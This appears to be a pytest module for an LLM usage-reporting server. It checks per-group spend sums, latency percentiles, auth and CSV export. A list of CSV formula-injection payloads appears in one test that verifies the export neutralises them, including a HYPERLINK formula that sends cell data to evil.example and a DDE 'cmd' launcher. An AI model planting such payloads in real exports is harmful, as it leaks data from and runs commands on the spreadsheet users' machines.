"""Spend reports through the real server: sums equal the rows, the CSV round-trips, auth, 422s."""

from __future__ import annotations

import csv
import io
import math
import random
import re
from collections import defaultdict
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from backend.tests.usage.helpers import ADMIN_TOKEN, fetch_rows, make_record
from backend.tests.usage.portal import Portal, running_portal
from backend.usage.record import UsageRecord
from backend.usage.store import insert_batch
from backend.usage.table import COLUMNS, usage_log

ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
START = datetime(2026, 10, 1, tzinfo=UTC)


def _records(n: int) -> list[UsageRecord]:
    rng = random.Random(4)
    models = [
        ("openai", "gpt-4o"), ("anthropic", "claude-sonnet-4-5"), ("google", "gemini-2.5-flash")
    ]
    records = []
    for _ in range(n):
        provider, model = rng.choice(models)
        failed = rng.random() < 0.2
        records.append(make_record(
            timestamp=START + timedelta(minutes=rng.randrange(0, 60 * 24 * 5)),
            user_email_hash=rng.choice([None, "a" * 64, "b" * 64]),
            specialist_id=rng.choice(["s1", "s2"]), specialist_name="Spec, \"quoted\"\nname",
            provider=provider, model=model,
            input_tokens=rng.randrange(0, 5000), output_tokens=rng.randrange(0, 2000),
            estimated_cost_usd=None if rng.random() < 0.1 else rng.random() / 100,
            latency_ms=rng.random() * 1000, success=not failed, streamed=rng.random() < 0.5,
            error_kind="provider_unavailable" if failed else None,
            cached_input_tokens=rng.choice([None, 0, 12]), tokens_estimated=failed,
            specialist_version=rng.choice([None, 1, 2]), prompt_hash="c" * 64,
            rate_limit_key_kind=rng.choice(["ip", "user"]),
            finish_reason=None if failed else rng.choice(["stop", "length", "refusal",
                                                          "content_filter"]),
            billed=not failed or rng.random() < 0.5,
        ))
    return records


def _key(record: UsageRecord, group_by: str) -> str | None:
    if group_by == "day":
        return record.timestamp.astimezone(UTC).strftime("%Y-%m-%d")
    attribute = {"user": "user_email_hash", "specialist": "specialist_id"}.get(group_by, group_by)
    value: str | None = getattr(record, attribute)
    return value


def _expected(records: list[UsageRecord], group_by: str) -> dict[str | None, dict[str, Any]]:
    groups: dict[str | None, dict[str, Any]] = defaultdict(lambda: defaultdict(int))
    for r in records:
        g = groups[_key(r, group_by)]
        g["requests"] += 1
        g["failures"] += not r.success
        g["input_tokens"] += r.input_tokens
        g["output_tokens"] += r.output_tokens
        g["cost_usd"] += r.estimated_cost_usd or 0.0
        g["unpriced_requests"] += r.estimated_cost_usd is None
        g["unbilled_failures"] += not r.billed
        g["refusals"] += r.finish_reason in ("refusal", "content_filter")
    return groups


@pytest.fixture
async def portal(database_url: str, tmp_path: Path) -> Any:
    """A running portal whose database holds 300 known records over five days."""
    async with running_portal(tmp_path, database_url) as portal:
        portal.records = _records(300)  # type: ignore[attr-defined]
        await insert_batch(portal.engine, portal.records)  # type: ignore[attr-defined]
        yield portal


async def test_summary_sums_equal_the_rows_for_every_grouping(portal: Portal) -> None:
    records: list[UsageRecord] = portal.records  # type: ignore[attr-defined]
    start, end = START + timedelta(days=1), START + timedelta(days=4)
    in_range = [r for r in records if start <= r.timestamp < end]
    for group_by in ("day", "user", "specialist", "model", "provider"):
        response = await portal.client.get("/usage/summary", headers=ADMIN, params={
            "from": start.isoformat(), "to": end.isoformat(), "group_by": group_by,
        })
        assert response.status_code == 200, response.text
        body = response.json()
        expected = _expected(in_range, group_by)
        got = {g["key"]: g for g in body["groups"]}
        assert set(got) == set(expected), group_by
        for key, sums in expected.items():
            for name in ("requests", "failures", "input_tokens", "output_tokens",
                         "unpriced_requests", "unbilled_failures", "refusals"):
                assert got[key][name] == sums[name], (group_by, key, name)
            assert got[key]["cost_usd"] == pytest.approx(sums["cost_usd"], rel=1e-9)
        assert body["totals"]["requests"] == len(in_range)
        assert body["totals"]["input_tokens"] == sum(r.input_tokens for r in in_range)
        assert body["from"].startswith("2026-10-02") and body["group_by"] == group_by
        if group_by == "specialist":
            assert got["s1"]["label"] == 'Spec, "quoted"\nname'


def _nearest_rank(values: list[float], percent: int) -> float | None:
    if not values:
        return None
    ordered = sorted(values)
    return ordered[math.ceil(percent * len(ordered) / 100) - 1]


async def test_summary_latency_percentiles_are_the_successful_rows_nearest_rank(
    portal: Portal,
) -> None:
    records: list[UsageRecord] = portal.records  # type: ignore[attr-defined]
    start, end = START, START + timedelta(days=3)
    in_range = [r for r in records if start <= r.timestamp < end]
    for group_by in ("specialist", "provider", "day"):
        response = await portal.client.get("/usage/summary", headers=ADMIN, params={
            "from": start.isoformat(), "to": end.isoformat(), "group_by": group_by,
        })
        body = response.json()
        for group in body["groups"]:
            ok = [r.latency_ms for r in in_range
                  if _key(r, group_by) == group["key"] and r.success]
            assert ok, "every group has successful rows in this data set"
            assert group["latency_p50_ms"] == pytest.approx(_nearest_rank(ok, 50)), group
            assert group["latency_p95_ms"] == pytest.approx(_nearest_rank(ok, 95)), group
            assert group["latency_p50_ms"] <= group["latency_p95_ms"]
        every = [r.latency_ms for r in in_range if r.success]
        assert body["totals"]["latency_p50_ms"] == pytest.approx(_nearest_rank(every, 50))
        assert body["totals"]["latency_p95_ms"] == pytest.approx(_nearest_rank(every, 95))


async def test_summary_latency_is_null_without_a_successful_request(portal: Portal) -> None:
    failed = make_record(
        timestamp=START - timedelta(days=3), specialist_id="only-failures", success=False,
        latency_ms=50.0, error_kind="provider_unavailable",
    )
    await insert_batch(portal.engine, [failed])
    response = await portal.client.get("/usage/summary", headers=ADMIN, params={
        "from": (START - timedelta(days=4)).isoformat(), "to": START.isoformat(),
        "group_by": "specialist",
    })
    (group,) = response.json()["groups"]
    assert (group["key"], group["failures"]) == ("only-failures", 1)
    assert group["latency_p50_ms"] is None and group["latency_p95_ms"] is None
    assert response.json()["totals"]["latency_p95_ms"] is None


async def test_summary_filters_narrow_the_rows(portal: Portal) -> None:
    records: list[UsageRecord] = portal.records  # type: ignore[attr-defined]
    response = await portal.client.get("/usage/summary", headers=ADMIN, params={
        "from": "2026-10-01T00:00:00", "to": "2026-10-10T00:00:00", "group_by": "model",
        "user_email_hash": "a" * 64, "provider": "openai",
    })
    body = response.json()
    wanted = [r for r in records if r.user_email_hash == "a" * 64 and r.provider == "openai"]
    assert [g["key"] for g in body["groups"]] == ["gpt-4o"]
    assert body["totals"]["requests"] == len(wanted)


async def test_the_csv_export_round_trips_the_rows(portal: Portal) -> None:
    start, end = START + timedelta(days=2), START + timedelta(days=3, hours=7)
    response = await portal.client.get("/usage/export", headers=ADMIN, params={
        "from": start.isoformat(), "to": end.isoformat(),
    })
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    parsed = list(csv.DictReader(io.StringIO(response.text)))
    assert list(parsed[0]) == list(COLUMNS)

    rows = [
        r for r in await fetch_rows(portal.engine)
        if start <= r["timestamp"].replace(tzinfo=r["timestamp"].tzinfo or UTC) < end
    ]
    rows.sort(key=lambda r: (r["timestamp"].replace(tzinfo=UTC), r["id"]))
    assert len(parsed) == len(rows) > 0
    for got, row in zip(parsed, rows, strict=True):
        assert _typed(got) == {**row, "timestamp": row["timestamp"].astimezone(UTC)
                               if row["timestamp"].tzinfo else row["timestamp"].replace(tzinfo=UTC)}


def _typed(cells: dict[str, str]) -> dict[str, Any]:
    # How a finance tool reads the CSV back: empty is null, true/false, ISO times, numbers.
    ints = {"id", "input_tokens", "output_tokens", "cached_input_tokens", "specialist_version"}
    floats = {"estimated_cost_usd", "latency_ms"}
    bools = {"success", "streamed", "tokens_estimated", "billed", "trial"}
    out: dict[str, Any] = {}
    for name, text in cells.items():
        if text == "" and name not in bools:
            out[name] = None
        elif name in ints:
            out[name] = int(text)
        elif name in floats:
            out[name] = float(text)
        elif name in bools:
            out[name] = {"true": True, "false": False}[text]
        elif name == "timestamp":
            out[name] = datetime.fromisoformat(text)
        else:  # text: the export prefixed one `'` to neutralise a formula (docs/usage.md)
            out[name] = text[1:] if text.startswith("'") else text
    return out


FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "=1+1",
    "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'already quoted", "''twice", "plain-model",
    '["=1+1","finance"]',  # user_groups as stored (a JSON list): text that starts no formula
]
# Every column that holds a string: each may carry text from outside (an upstream's model,
# a configuration's name, an IdP's cost centre or group), so each is neutralised.
TEXT_COLUMNS = [c.name for c in usage_log.columns if c.type.python_type is str]


async def test_the_export_neutralises_formulas_and_still_round_trips(portal: Portal) -> None:
    assert {"model", "cost_center", "user_groups", "finish_reason"} <= set(TEXT_COLUMNS)
    stamp = START + timedelta(days=7)
    records = [
        make_record(
            timestamp=stamp + timedelta(seconds=i), estimated_cost_usd=-1.5, output_tokens=0,
            # request_id too, made unique (the table's key for one request).
            **{name: text + (str(i) if name == "request_id" else "") for name in TEXT_COLUMNS},
        )
        for i, text in enumerate(FORMULAS)
    ]
    await insert_batch(portal.engine, records)
    response = await portal.client.get("/usage/export", headers=ADMIN, params={
        "from": stamp.isoformat(), "to": (stamp + timedelta(hours=1)).isoformat(),
    })
    raw = list(csv.DictReader(io.StringIO(response.text)))
    assert len(raw) == len(FORMULAS)
    for cells, record in zip(raw, records, strict=True):
        typed = _typed(cells)
        for name in TEXT_COLUMNS:
            stored = getattr(record, name)  # as the record bounded it to its column
            # What a spreadsheet sees: no text cell starts a formula, a quote shows text.
            assert not cells[name].startswith(("=", "+", "-", "@", "\t", "\r")), (name, stored)
            assert cells[name] == (f"'{stored}" if stored[0] in "=+-@\t\r'" else stored), name
            assert typed[name] == stored, name  # and a machine reads the stored value back
        assert cells["estimated_cost_usd"] == "-1.5"  # a number, not text: left as it is
        assert typed["estimated_cost_usd"] == -1.5


def test_the_usage_doc_lists_every_neutralised_column() -> None:
    doc = (Path(__file__).resolve().parents[3] / "docs" / "usage.md").read_text()
    sentence = re.search(r"The\s+text\s+columns\s+are([^.]*)\.", doc)
    assert sentence is not None
    assert re.findall(r"`(\w+)`", sentence.group(1)) == TEXT_COLUMNS


async def test_admin_endpoints_need_the_token(portal: Portal) -> None:
    for path in ("/usage/summary", "/usage/export", "/usage/status"):
        missing = await portal.client.get(path)
        wrong = await portal.client.get(path, headers={"Authorization": "Bearer wrong-token-xxxxx"})
        for response in (missing, wrong):
            assert response.status_code == 401
            assert response.headers["www-authenticate"] == "Bearer"
            assert response.json()["error"] == "unauthorized"
        assert (await portal.client.get(path, headers=ADMIN)).status_code == 200


BAD_PARAMS: list[dict[str, str]] = [
    {"group_by": "week"},
    {"from": "yesterday"},
    {"from": "2026-10-05T00:00:00Z", "to": "2026-10-01T00:00:00Z"},
    {"from": "2026-10-05T00:00:00Z", "to": "2026-10-05T00:00:00Z"},
]


async def test_bad_parameters_are_a_422_json_error(portal: Portal) -> None:
    for path in ("/usage/summary", "/usage/export"):
        for params in BAD_PARAMS:
            if path == "/usage/export" and "group_by" in params:
                continue  # the export has no grouping
            response = await portal.client.get(path, headers=ADMIN, params=params)
            assert response.status_code == 422, (path, params)
            assert response.json()["error"] == "invalid_request"


async def test_without_admin_token_the_endpoints_do_not_exist(tmp_path: Path) -> None:
    async with running_portal(
        tmp_path, f"sqlite:///{tmp_path / 'usage.db'}", admin_token=None
    ) as portal:
        for path in ("/usage/summary", "/usage/export", "/usage/status"):
            response = await portal.client.get(path, headers=ADMIN)
            assert response.status_code == 404
            assert response.json() == (await portal.client.get("/no/such/route")).json()
